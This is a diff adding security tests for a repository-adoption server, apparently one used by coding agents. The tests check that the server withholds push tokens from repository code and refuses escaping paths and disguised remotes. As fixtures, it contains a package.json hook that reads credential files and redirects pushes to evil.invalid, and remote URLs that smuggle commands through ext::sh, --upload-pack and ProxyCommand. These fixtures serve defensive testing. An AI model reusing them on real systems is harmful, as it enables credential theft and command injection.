@@ -40,13 +40,15 @@ let canary: string;
 let markers: string;
 let canaryBefore: string;
 let ghPath: string;
+/** A repository under the allowed directory whose objects/info/alternates points outside. */
+let borrowingBare: string;
 
 beforeAll(async () => {
   base = await mkdtemp(path.join(tmpdir(), 'adopt-attack-'));
   allowed = path.join(base, 'allowed');
   canary = path.join(base, 'canary');
   markers = path.join(base, 'markers');
-  await Promise.all([allowed, canary, markers].map((dir) => mkdir(dir)));
+  await Promise.all([allowed, canary, markers, serverTmp()].map((dir) => mkdir(dir)));
   await writeFile(path.join(canary, 'secret.txt'), CANARY_TEXT, { mode: 0o600 });
   await mkdir(path.join(canary, 'nested'));
   await writeFile(path.join(canary, 'nested', 'notes.md'), '# Outside\n');
@@ -54,6 +56,12 @@ beforeAll(async () => {
   // A repository outside the allowed directory, and a link to it from inside.
   const outside = await createBareRemote(plainRepo, 'main', canary);
   await symlink(outside.bare, path.join(allowed, 'link-to-outside.git'));
+  // Inside the allowed directory, but reading the outside repository through a gitfile or alternates.
+  await mkdir(path.join(allowed, 'gitfile-repo'));
+  await writeFile(path.join(allowed, 'gitfile-repo', '.git'), `gitdir: ${outside.bare}\n`);
+  const borrowing = await createBareRemote(plainRepo, 'main', allowed);
+  await writeFile(path.join(borrowing.bare, 'objects', 'info', 'alternates'), `${outside.bare}/objects\n`);
+  borrowingBare = borrowing.bare;
   canaryBefore = await hashTree(canary);
   ghPath = (await createGhStandIn()).path;
 });
@@ -80,7 +88,10 @@ async function hashTree(root: string): Promise<string> {
   return hash.digest('hex');
 }
 
-/** Every process's command line and environment that holds `secret`, and whether a git push was seen. */
+/**
+ * Every process's command line and environment that holds `secret`, and whether a git push or git's http
+ * remote helper (fetch, ls-remote, push) was seen.
+ */
 function scanProcesses(secret: string): { leaks: string[]; sawPush: boolean } {
   const leaks: string[] = [];
   let sawPush = false;
@@ -100,8 +111,12 @@ function scanProcesses(secret: string): { leaks: string[]; sawPush: boolean } {
   return { leaks, sawPush };
 }
 
+/** The server's (and so its children's) temp directory: credential folders would show up here. */
+const serverTmp = () => path.join(base, 'tmp');
+
 const serverEnv = () => ({
   PATH: ghPath,
+  TMPDIR: serverTmp(),
   GROUNDWORK_ADOPT_BACKOFF_MS: '1',
   DATABASE_URL: `postgres://app:${SERVER_SECRET}@db.internal/app`,
   AWS_SECRET_ACCESS_KEY: SERVER_SECRET,
@@ -242,6 +257,37 @@ describe.each(['stdio', 'streamable-http'] as const)(
       await expectStillAnswering();
     });
 
+    it('gives opted-in repository code neither the token nor a way to redirect the push', async () => {
+      const token = `ghp_${transport === 'stdio' ? 'STDIO' : 'HTTPS'}optedINoptedINoptedIN0001`;
+      const ran = await mkdtemp(path.join(base, 'steal-'));
+      // Reads any credential file it can find, and points the push at another host.
+      const steal = [
+        `cat "\${TMPDIR:-/tmp}"/groundwork-credentials-*/password > ${ran}/stolen.txt 2>/dev/null`,
+        'git config url.http://evil.invalid/.insteadOf http://127.0.0.1',
+        `echo ran > ${ran}/ran.txt`,
+      ].join('; ');
+      const remote = await remoteWith({
+        ...nodeRepo,
+        'package.json': `${JSON.stringify({ name: 'steal', version: '1.0.0', scripts: { 'precheck:agent-docs': steal } })}\n`,
+      });
+      git(remote.bare, 'config', 'http.receivepack', 'true');
+      const gitServer = await startGitHttpServer(path.dirname(remote.bare), token, 0);
+      try {
+        const result = await server.call('adopt_repo', {
+          repository_url: gitServer.urlFor(path.basename(remote.bare)),
+          workspace: await workspace(),
+          run_repository_code: true,
+        });
+        expect(await readFile(path.join(ran, 'ran.txt'), 'utf8')).toBe('ran\n');
+        expect(await readFile(path.join(ran, 'stolen.txt'), 'utf8')).toBe('');
+        expect(result.isError).toBe(false);
+        expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeDefined();
+      } finally {
+        await gitServer.close();
+      }
+      await expectStillAnswering();
+    });
+
     it.each([
       ['AGENTS.md', { 'AGENTS.md': { symlink: '<canary>/secret.txt' } }, 'agent-docs'],
       ['CLAUDE.md', { 'CLAUDE.md': { symlink: '<canary>/nested/notes.md' } }, 'agent-docs'],
@@ -278,6 +324,35 @@ describe.each(['stdio', 'streamable-http'] as const)(
       expect(result.text).not.toContain(canary);
       expect(result.text).not.toContain('CANARY');
       expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeUndefined();
+      await expectStillAnswering();
+    });
+
+    it('treats the checkout’s own .git as outside: AGENTS.md → .git/config is neither read nor written', async () => {
+      const remote = await remoteWith({ ...plainRepo, 'AGENTS.md': { symlink: '.git/config' } });
+      const ws = await workspace();
+      const result = await server.call('adopt_repo', {
+        repository_url: remote.url,
+        workspace: ws,
+        dry_run: true,
+      });
+      expect(result.isError).toBe(true);
+      expect(result.text).toContain("'AGENTS.md' leads into the repository's .git folder");
+      const [checkout] = await readdir(ws);
+      const config = await readFile(path.join(ws, checkout ?? '', '.git', 'config'), 'utf8');
+      expect(config).toContain('[remote "origin"]');
+      expect(config).not.toContain('## ');
+
+      const repo = await mkdtemp(path.join(allowed, 'git-link-verify-'));
+      await writeFixtureFiles(repo, { ...conventionalRepo(), 'CLAUDE.md': { symlink: '.git/config' } });
+      execFileSync('git', ['init', '--quiet'], { cwd: repo });
+      execFileSync('git', ['config', 'remote.origin.url', `https://${SERVER_SECRET}@example.invalid/r`], {
+        cwd: repo,
+      });
+      const verified = await server.call('verify_repo', { path: path.relative(allowed, repo) });
+      expect(verified.structuredContent?.findings).toContainEqual(
+        expect.objectContaining({ rule: 'files/unsafe', file: 'CLAUDE.md' }),
+      );
+      expect(verified.text).not.toContain(SERVER_SECRET);
       await expectStillAnswering();
     });
 
@@ -349,8 +424,11 @@ describe.each(['stdio', 'streamable-http'] as const)(
       () => `ext::sh -c ${touch('ext').replaceAll(' ', '% ')}`,
       () => `--upload-pack=${touch('upload-pack')}`,
       () => `-oProxyCommand=${touch('proxy')}:x`,
+      () => `ssh://%2DoProxyCommand=${encodeURIComponent(touch('proxy-encoded'))}@localhost/r`,
       () => `file://${readlinkSync(path.join(allowed, 'link-to-outside.git'))}`,
       () => path.join(allowed, 'link-to-outside.git'),
+      () => path.join(allowed, 'gitfile-repo'),
+      () => `file://${borrowingBare}`,
     ])('refuses a remote that is a local path out of bounds or a command in disguise (%#)', async (url) => {
       const result = await server.call('adopt_repo', {
         repository_url: url(),
@@ -399,10 +477,15 @@ describe.each(['stdio', 'streamable-http'] as const)(
       const remote = await remoteWith(plainRepo);
       git(remote.bare, 'config', 'http.receivepack', 'true');
       const scans: Array<ReturnType<typeof scanProcesses>> = [];
+      const fetchScans: Array<ReturnType<typeof scanProcesses>> = [];
       const gitServer = await startGitHttpServer(path.dirname(remote.bare), token, 0, {
         // While the pack is on its way, git push and its remote helper are running: look at every process.
         beforePush: async (phase) => {
           if (phase === 'pack') scans.push(scanProcesses(token));
+        },
+        // Likewise while ls-remote and fetch talk to the remote.
+        beforeFetch: async () => {
+          fetchScans.push(scanProcesses(token));
         },
       });
       try {
@@ -415,6 +498,10 @@ describe.each(['stdio', 'streamable-http'] as const)(
         expect(scans.length).toBeGreaterThan(0);
         expect(scans.some((scan) => scan.sawPush)).toBe(true);
         expect(scans.flatMap((scan) => scan.leaks)).toEqual([]);
+        expect(fetchScans.length).toBeGreaterThanOrEqual(2);
+        // git's remote helper (which holds the credentials) was running during those scans.
+        expect(fetchScans.some((scan) => scan.sawPush)).toBe(true);
+        expect(fetchScans.flatMap((scan) => scan.leaks)).toEqual([]);
         expect(result.text).not.toContain(token);
       } finally {
         await gitServer.close();
@@ -449,6 +536,9 @@ describe('a server killed with SIGKILL during a push', { timeout: 120_000 }, () 
             return false;
           }
         });
+    /** The token's private folders in the server's temp directory (one exists while the push runs). */
+    const credentialFolders = () =>
+      readdirSync(serverTmp()).filter((name) => name.startsWith('groundwork-credentials-'));
     let reaped: (outcome: { atKill: string[]; after: string[] }) => void = () => {};
     const outcome = new Promise<{ atKill: string[]; after: string[] }>((resolve) => {
       reaped = resolve;
@@ -457,13 +547,13 @@ describe('a server killed with SIGKILL during a push', { timeout: 120_000 }, () 
       // The pack is held back while the server is killed; the push may only continue once it is reaped.
       beforePush: async (phase) => {
         if (phase !== 'pack') return;
-        const atKill = inWorkspace();
+        const atKill = [...inWorkspace(), ...credentialFolders()];
         process.kill(transport.pid as number, 'SIGKILL');
         // A generous bound for the watchdog to notice and kill the group, not a timing assumption.
         const deadline = Date.now() + 30_000;
-        while (inWorkspace().length > 0 && Date.now() < deadline)
+        while ((inWorkspace().length > 0 || credentialFolders().length > 0) && Date.now() < deadline)
           await new Promise((resolve) => setTimeout(resolve, 50));
-        reaped({ atKill, after: inWorkspace() });
+        reaped({ atKill, after: [...inWorkspace(), ...credentialFolders()] });
       },
     });
     try {
@@ -477,7 +567,8 @@ describe('a server killed with SIGKILL during a push', { timeout: 120_000 }, () 
       );
       await expect(call).rejects.toThrow();
       const { atKill, after } = await outcome;
-      expect(atKill.length).toBeGreaterThan(0);
+      expect(atKill.some((name) => name.startsWith('groundwork-credentials-'))).toBe(true);
+      expect(atKill.length).toBeGreaterThan(1);
       expect(after).toEqual([]);
       expect(remoteRef(remote, `refs/heads/${DEFAULT_BRANCH_NAME}`)).toBeUndefined();
     } finally {
